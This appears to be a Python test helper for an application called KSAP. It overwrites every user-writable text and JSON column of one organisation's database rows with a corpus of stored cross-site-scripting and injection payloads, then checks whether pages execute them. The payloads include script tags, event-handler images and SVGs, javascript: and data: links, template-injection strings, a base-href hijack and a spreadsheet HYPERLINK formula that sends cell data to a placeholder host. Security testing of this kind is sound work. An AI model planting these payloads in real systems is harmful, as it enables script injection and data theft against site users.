"""Stored scripts: every text that a person or a vendor may have written says something that a careless page would run.

The columns are read from the database, so that a new one is among them without anybody thinking of it. What stays as it is,
because only KSAP itself writes it and reads it as a word of its own, is named in `OURS`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from uuid import UUID

import psycopg
from psycopg import sql

MARK = "__stored"
"""`window.__stored` is set by whatever of this runs; `data-stored` is on each element that becomes one."""

CORPUS = (
    f"<script data-stored>window.{MARK}='script'</script>",
    f"\"'><img data-stored src=/nowhere onerror=\"window.{MARK}='error'\">",
    f"</textarea></title></style><svg data-stored onload=window.{MARK}='svg'><animate onbegin=alert(1)>",
    f"<details data-stored open ontoggle=window.{MARK}='toggle'><summary>a</summary></details>",
    f"<iframe data-stored srcdoc=\"<script>parent.{MARK}='frame'</script>\"></iframe>",
    f"javascript:window.{MARK}='address'//",
    f"[click](javascript:window.{MARK}='markdown') ![x](https://stored.invalid/picture)",
    f"${{window.{MARK}='template'}} {{{{constructor.constructor('window.{MARK}=1')()}}}} <%= 7*7 %> #{{7*7}}",
    f"&lt;script data-stored&gt;window.{MARK}='entity'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u202egpj.exe\u202c <b data-stored>bold</b><style data-stored>*{background:url(https://stored.invalid/style)}</style>",
    '=HYPERLINK("https://stored.invalid/?"&A1,"+") <base data-stored href=https://stored.invalid/>',
    f"<a data-stored href=\"data:text/html,<script>opener.{MARK}='data'</script>\" target=_blank>look</a>",
)
ADDRESSES = (f"javascript:window.{MARK}='link'//", 'https://stored.invalid/"><img data-stored src=x onerror=alert(1)>')
"""For columns that hold addresses."""

OURS = {
    "codes of ours or of a standard": {
        "action", "actor_kind", "auth", "carrier", "code", "countries", "country", "currency", "environment", "error_code",
        "event", "handler", "kind", "language", "method", "owner_kind", "parties", "permissions", "phase", "platform",
        "policy", "resource", "rule", "scopes", "source", "state", "status", "target_kind", "task", "template", "text_version",
        "timezone", "topic", "trigger", "vendor", "label_media_type", "remedy", "purpose",
    },
    "keys, hashes and sealed values that no page shows": {
        "binding_hash", "code_challenge", "code_hash", "credential_id", "current_hash", "file_key", "fingerprint",
        "key", "key_hash", "kid", "label_key", "nonce", "password_hash", "prefix", "private_key", "public_key", "refresh_hash",
        "sealed", "secret", "secrets", "state_hash", "token_hash", "verifier", "client_secret",
    },
    "made by KSAP from its own values": {
        "base", "counts", "health", "masks", "position", "public", "report", "settings", "stock_id", "test_report", "value",
        "webhooks", "args", "progress", "result", "search", "links", "entries", "cursor", "redirect_uris", "redirect_uri",
        "external_id", "delivery_id", "correlation_id",
    },
}  # fmt: skip
_KEPT = set().union(*OURS.values())
_COLUMNS = """
    SELECT c.table_name, c.column_name, c.data_type = 'jsonb'
    FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
    WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.data_type IN ('text', 'character varying', 'jsonb')
      AND EXISTS (SELECT 1 FROM information_schema.columns o WHERE o.table_name = c.table_name AND o.column_name = 'org_id')
      AND NOT EXISTS (SELECT 1 FROM pg_inherits i WHERE i.inhrelid = c.table_name::regclass)
      AND NOT EXISTS (
        SELECT 1 FROM pg_constraint k JOIN pg_attribute a ON a.attrelid = k.conrelid AND a.attnum = ANY (k.conkey)
        WHERE k.contype IN ('c', 'f', 'p') AND k.conrelid = c.table_name::regclass AND a.attname = c.column_name)
    ORDER BY 1, 2"""


def columns(catalog: psycopg.Connection) -> Iterator[tuple[str, str, bool]]:
    """`(table, column, is JSON)` of all text that somebody may have written, in tables of organisations."""
    for table, column, is_json in catalog.execute(_COLUMNS).fetchall():
        if column not in _KEPT and table not in _APPENDED and (table, column) not in BOUNDED:
            yield table, column, is_json


def poison(catalog: psycopg.Connection, org_id: UUID) -> set[str]:
    """Writes the corpus over everything of an organisation. Returns `table.column` of what holds it now."""
    done = set()
    for number, (table, column, is_json) in enumerate(columns(catalog)):
        names = sql.Identifier(table), sql.Identifier(column)
        rows = catalog.execute(
            sql.SQL("SELECT ctid::text, {1} FROM {0} WHERE org_id = %s").format(*names), (org_id,)
        ).fetchall()
        statement = sql.SQL("UPDATE {0} SET {1} = %s WHERE ctid = %s::tid AND org_id = %s").format(*names)
        for row, (ctid, value) in enumerate(rows):
            said = _address(column, number + row) or CORPUS[(number + row) % len(CORPUS)]
            written = json.dumps(_filled(value, said)) if is_json else f"{said} {number}.{row}"
            catalog.execute(statement, (written, ctid, org_id))
            done.add(f"{table}.{column}")
    return done


BOUNDED: set[tuple[str, str]] = set()
"""Columns whose words no call can write, one by one."""
_APPENDED = {"audit_log", "audit_chain", "stock_ledger"}
"""Nobody changes these, not even the owner of the database; they are written by the deeds themselves."""


def _address(name: str, number: int = 0) -> str:
    if name == "phone":  # the profile of an organisation has fifty characters for it
        return f"<img data-stored src=x onerror={MARK}=1>"
    return ADDRESSES[number % len(ADDRESSES)] if name.endswith(("url", "website", "link")) else ""


def _filled(value: Any, said: str) -> Any:
    """The same value, all words in it replaced."""
    if isinstance(value, str):
        return said
    if isinstance(value, list):
        return [_filled(each, said) for each in value]
    if isinstance(value, dict):
        return {name: each if name in _KEPT else _filled(each, _address(name) or said) for name, each in value.items()}
    return value
